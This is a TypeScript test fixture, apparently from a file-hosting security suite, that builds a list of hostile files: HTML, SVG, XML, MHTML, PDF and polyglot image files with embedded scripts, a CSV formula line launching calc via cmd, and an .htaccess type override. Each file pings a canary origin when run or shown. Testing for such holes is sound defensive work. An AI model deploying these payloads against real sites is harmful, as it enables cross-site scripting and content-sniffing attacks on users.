/**
 * Hostile files: whatever a browser could be brought to run or to show. Each calls at a canary as soon as a script of it
 * runs (`/ran`), or a page of it is shown (`/shown`).
 */
import { gzipSync } from "node:zlib";

export type HostileFile = { name: string; type: string; bytes: Uint8Array<ArrayBuffer> };

/** `canary` is an origin. */
export function hostileFiles(canary: string): HostileFile[] {
  const call = `new Image().src='${canary}/ran?at='+encodeURIComponent(self.origin);try{document.title='owned';alert('owned')}catch{}`;
  const html = `<!doctype html><title>x</title><img src="${canary}/shown"><script>${call}</script>`;
  const xmlns = 'xmlns="http://www.w3.org/1999/xhtml"';
  const xhtml = `<html ${xmlns}><body><img src="${canary}/shown"/><script>//<![CDATA[
${call}
//]]></script></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>//<![CDATA[
${call}
//]]></script></svg>`;
  const xsl = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${xhtml}</xsl:template></xsl:stylesheet>`;
  const utf7 = html.replace(/[<>"]/g, (sign) => ({ "<": "+ADw-", ">": "+AD4-", '"': "+ACI-" })[sign] ?? sign);
  const mime = `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`;
  const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${html}\r\n--b--\r\n`;
  const inFrame = `<iframe srcdoc="${Bun.escapeHTML(html)}"></iframe><meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(html)}">`;
  const text: [name: string, type: string, content: string][] = [
    ["x.html", "text/html", html],
    ["upper.HTML", "text/html; charset=utf-8", html],
    ["utf7.html", "text/html; charset=utf-7", utf7],
    ["utf7.txt", "text/plain; charset=utf-7", utf7],
    ["jp.html", "text/html; charset=iso-2022-jp", `\u001b$@${html}\u001b(B${html}`],
    ["index.html", "text/html", inFrame],
    [
      "handlers.html",
      "text/html",
      `<body onload="${call}"><svg onload="${call}"><details open ontoggle="${call}">`,
    ],
    ["a.svg", "image/svg+xml", svg],
    [
      "onload.svg",
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${Bun.escapeHTML(call)}"/>`,
    ],
    [
      "foreign.svg",
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${xhtml}</foreignObject></svg>`,
    ],
    ["page.xhtml", "application/xhtml+xml", xhtml],
    ["page.xml", "text/xml", xhtml],
    ["page2.xml", "application/xml", xhtml],
    [
      "styled.xml",
      "text/xml",
      `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(xsl)}"?><x/>`,
    ],
    ["style.xsl", "text/xsl", xsl],
    [
      "feed.rss",
      "application/rss+xml",
      `<rss version="2.0"><channel><title>x</title>${xhtml}</channel></rss>`,
    ],
    ["feed.atom", "application/atom+xml", `<feed xmlns="http://www.w3.org/2005/Atom">${xhtml}</feed>`],
    [
      "math.mml",
      "application/mathml+xml",
      `<math xmlns="http://www.w3.org/1998/Math/MathML">${xhtml}</math>`,
    ],
    ["page.mht", "multipart/related", mhtml],
    ["page.mhtml", "message/rfc822", mhtml],
    ["mail.eml", "message/rfc822", mime],
    ["parts.html", "multipart/x-mixed-replace", `--b\r\n${mime}`],
    ["run.js", "text/javascript", call],
    ["run2.js", "application/javascript", call],
    ["run.mjs", "application/ecmascript", call],
    ["sw.js", "text/javascript", `onfetch=(e)=>e.respondWith(new Response('${html}'));${call}`],
    ["text.js", "text/plain", call],
    ["noise.txt", "text/plain", html],
    ["noise.bin", "application/octet-stream", html],
    ["unknown.html", "unknown/unknown", html],
    ["unknown2.html", "application/x-unknown-content-type", html],
    ["starred.html", "application/unknown", html],
    ["page.json", "application/json", html],
    ["page.csv", "text/csv", `=cmd|' /C calc'!A0\n${html}`],
    ["cues.vtt", "text/vtt", `WEBVTT\n\n00:00.000 --> 00:09.000\n<b>${html}</b>`],
    [".htaccess", "text/plain", "AddType text/html .txt\nForceType text/html\n"],
    ["app.hta", "application/hta", html],
    ["link.url", "application/internet-shortcut", `[InternetShortcut]\r\nURL=javascript:${call}\r\n`],
    ["film.swf", "application/x-shockwave-flash", `FWS\u0009${html}`],
    ["a.pdf", "application/pdf", pdf(`app.alert('owned');app.launchURL('${canary}/ran');`)],
    ["photo.gif", "image/gif", `GIF89a/*${"\u0001\u0001"}*/=1;${call}//${html}`],
    ["photo.jpg", "text/html", `\u00ff\u00d8\u00ff\u00fe${html}`],
    ["film.mp4", "video/mp4", html],
    ["x.html.zip", "application/zip", `PK\u0003\u0004${html}`],
  ];
  const files = text.map(([name, type, content]) => ({
    name,
    type,
    bytes: new TextEncoder().encode(content),
  }));
  return [
    ...files,
    { name: "utf16.html", type: "text/html", bytes: utf16(html) },
    { name: "packed.svgz", type: "image/svg+xml", bytes: new Uint8Array(gzipSync(svg)) },
    {
      name: "pixel.png",
      type: "image/png",
      bytes: new Uint8Array([...pngSignature, ...new TextEncoder().encode(html)]),
    },
  ];
}

const pngSignature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/** With its byte order mark. */
const utf16 = (text: string): Uint8Array<ArrayBuffer> =>
  new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"));

const pdf = (script: string): string => `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
trailer<</Root 1 0 R>>
`;
